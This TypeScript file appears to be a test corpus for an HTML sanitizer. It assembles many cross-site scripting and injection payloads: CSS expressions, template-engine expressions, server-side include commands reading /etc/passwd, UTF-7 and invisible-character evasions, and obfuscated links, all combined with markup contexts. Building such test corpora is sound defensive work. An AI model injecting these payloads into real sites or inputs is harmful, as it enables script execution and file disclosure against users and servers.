import type { Attacks } from '../attack-classes.js';
import { product } from './product.js';
import { SCHEME_SPELLINGS } from './spellings.js';

const CONTEXTS = [
  '*',
  '<p>*</p>',
  '<table>*</table>',
  '<head>*</head>',
  '</p></body>*',
  '<svg>*',
  '<ul><li>*',
];
const inContexts = (markup: readonly string[], contexts: readonly string[] = CONTEXTS) =>
  product(contexts, markup).map(([context, text]) => context.replace('*', () => text));

const CSS = [
  ...['width:expression(alert(1))', 'xss:expr/*XSS*/ession(alert(1))', 'behavior:url(xss.htc)'],
  ...[
    'background:url(javascript:alert(1))',
    'background-image:\\0075\\0072\\006C\\0028x\\0029',
    'list-style-image:url("javascript:alert(1)")',
  ],
  ...[
    '-moz-binding:url("//x.example/x.xml#xss")',
    '-o-link:"javascript:alert(1)";-o-link-source:current',
    'position:fixed;inset:0;z-index:9',
  ],
  ...[
    "@import'//x.example/a.css';",
    "@im\\port'\\ja\\vasc\\ript:alert(1)';",
    '@charset "utf-7";',
    '@namespace url(x);',
    '@font-face{src:url(//x.example)}',
  ],
  ...[
    '*{x:expression(alert(1))}',
    'a[href^="/a"]{background:url(//x.example/?a)}',
    'x</style><img src=x onerror=alert(1)>',
    '&lt;/style&gt;&lt;img src=x&gt;',
  ],
  ...[
    '/*# sourceMappingURL=/etc/passwd */',
    'color:red;}</style><script>alert(1)</script>',
    "font-family:'x\\3c img src=x onerror=alert(1)\\3e'",
    '--x:{};x:var(--x)',
  ],
];
const CSS_CONTEXTS = [
  ...[
    '<style>*</style>',
    '<style type="text/css">*',
    '<STYLE TYPE="text/javascript">*</STYLE>',
    '<p style="*">x</p>',
    "<a href='/a' style='*'>x</a>",
  ],
  ...[
    '<img style="*" src="/a">',
    '<td style="*">x</td>',
    '<svg><style>*</style></svg>',
    '<math><style>*</style></math>',
    '<style><!--*--></style>',
    '<link rel=stylesheet href="data:text/css,*">',
  ],
];

const TEMPLATE_EXPRESSIONS = [
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    '<%= alert(1) %>',
    '#{alert(1)}',
    '[[alert(1)]]',
    '{%x%}',
  ],
  ...[
    '&{alert(1)}',
    '&{alert(1)};',
    '<br size="&{alert(1)}">',
    'Set.constructor`alert\\x28document.domain\\x29',
    '{{<b>{{</b>}}x',
    '{<!-- -->{alert(1)}}',
  ],
  ...[
    '{<a>{</a>alert(1)}}',
    '$<x>{alert(1)}',
    '<x ng-app>{{1}}</x>',
    '<p v-html="x" x-html="y" :onclick="z" @click="alert(1)">w</p>',
    '<p ng-click="x">y</p>',
  ],
];

const BINDINGS = [
  '<xml id="xss"><i><b><img src="javas<!-- -->cript:alert(1)"></b></i></xml><span datasrc="#xss" datafld="B" dataformatas="HTML"></span>',
  '<xml src="xsstest.xml" id=I></xml><span datasrc=#I datafld=C dataformatas=HTML></span>',
  '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=//x.example></SCRIPT>\'"-->',
  '<!--#include file="/etc/passwd"-->',
  '<esi:include src="//x.example"/>',
  '<%@include file="x"%><%= x %>',
  '<?= `id` ?>',
  '<cfoutput>#x#</cfoutput>',
  '<p data-bind="html: x" data-hx-get="/x" hx-on:click="alert(1)">y</p>',
  '<p data-action="x" data-remote=true data-method=delete>y</p>',
  '<a href="/a" data-turbo-method="delete" data-toggle=x data-html=true title="<img src=x onerror=alert(1)>">y</a>',
];

const CHARSETS = [
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u00bcscript\u00bealert(\u00a21\u00a2)\u00bc/script\u00be',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\u00c0\u00bcscript\u00c0\u00be',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253E',
  '\\x3cscript\\x3ealert(1)',
  '\\u003cscript\\u003ealert(1)',
  '\u2039script\u203aalert(1)\u2039/script\u203a',
  '\u02c2script\u02c3',
  '\x1b$B<script>\x1b(Balert(1)</script>',
  '\x1b(J<img src="\\x" onerror=alert(1)>',
  '~{<img src=x onerror=alert(1)>~}',
  '\ufeff<script>alert(1)</script>',
  '\ufffe<script>alert(1)</script>',
  '\ud800<img src=x onerror=alert(1)>\udc00',
  '<\ud83dscript>alert(1)</script>',
];

const INVISIBLE = [
  ...[
    '\0',
    '\x01',
    '\x08',
    '\v',
    '\f',
    '\x1a',
    '\x1b',
    '\x1f',
    '\x7f',
    '\x80',
    '\x85',
    '\x9f',
    '\u00a0',
    '\u00ad',
    '\u034f',
  ],
  ...[
    '\u061c',
    '\u115f',
    '\u180e',
    '\u200b',
    '\u200d',
    '\u200e',
    '\u2028',
    '\u202e',
    '\u2060',
    '\u2066',
    '\u3000',
    '\ufe0f',
    '\ufeff',
    '\ufff9',
    '\uffff',
    '\u{e0001}',
  ],
  ...['&#0;', '&#x80;', '&#xd800;', '&#x110000;', '&#xfdd0;', '&#13;', '&#11;', '&#127;'],
];
const INVISIBLE_CONTEXTS = [
  ...[
    '<*script>alert(1)</script>',
    '<scr*ipt>alert(1)</scr*ipt>',
    '<script*>alert(1)</script*>',
    '<img*src=x onerror=alert(1)>',
    '<img src=x on*error=alert(1)>',
    '<img src=x onerror*=alert(1)>',
  ],
  ...[
    '<a href="java*script:alert(1)">x</a>',
    '<a href="*javascript:alert(1)">x</a>',
    '<a href="/*/x.example">x</a>',
    '<a href*="javascript:alert(1)">x</a>',
    '<img src="/a" alt="*">',
    '*<svg onload=alert(1)>*',
  ],
];

const LINKS = [
  'https://66.102.7.147/',
  'https://%77%77%77%2E%67.example',
  'http://1113982867/',
  'http://0x42.0x0000066.0x7.0x93/',
  'http://0102.0146.0007.00000223/',
  'h \ntt\tp://6\t6.000146.0x7.147/',
  'http://x.example@y.example',
  'http://y:x.example',
  'https://x.example./',
  'http://www.x.example/ogle.com/',
  'http://x.example/somecommand?a=b&c=d"e\'f<g>h`i',
  'https://x.example/a.jpg?&#34;onerror=alert(1)',
  'https://\u0445.example',
  'https://x.example/\u202egpj.exe',
  'mailto:a@b.example?body=<script>alert(1)</script>',
  'mailto:a@b.example%0d%0abcc:c@d.example',
  '#"><img src=x onerror=alert(1)>',
  '#javascript:alert(1)',
  '/a?javascript:alert(1)',
  '/javascript:alert(1)',
  'https:javascript:alert(1)',
  'https://javascript:alert(1)',
];

export const TEXT_ATTACKS: Attacks = {
  'style sheet': [
    ...product(CSS_CONTEXTS, CSS).map(([context, css]) => context.replace('*', () => css)),
    ...SCHEME_SPELLINGS.map(
      (spell) => `<p style="background:url(${spell('javascript:alert(1)')})">x</p>`,
    ),
  ],
  'template expression': inContexts(TEMPLATE_EXPRESSIONS, [
    '*',
    '<p>*</p>',
    '<p title="*">x</p>',
    '<pre><code>*</code></pre>',
    '<x-y>*</x-y>',
    '<img alt="*" src="/a">',
  ]),
  'server or data binding': inContexts(BINDINGS),
  charset: [
    ...inContexts(CHARSETS),
    ...product(
      [
        '<meta charset=utf-7>',
        '<meta http-equiv=content-type content="text/html;charset=iso-2022-jp">',
      ],
      CHARSETS,
    ).map(([meta, text]) => meta + text),
  ],
  'control or invisible character': product(INVISIBLE_CONTEXTS, INVISIBLE).map(([context, char]) =>
    context.replaceAll('*', char),
  ),
  'harmful link or image': product(
    [
      '<a href="*">x</a>',
      "<a href='*'>x</a>",
      '<img src="*">',
      '<img src=* alt=x>',
      '<a href=*>x</a>',
    ],
    LINKS,
  ).map(([context, url]) => context.replace('*', () => url)),
};
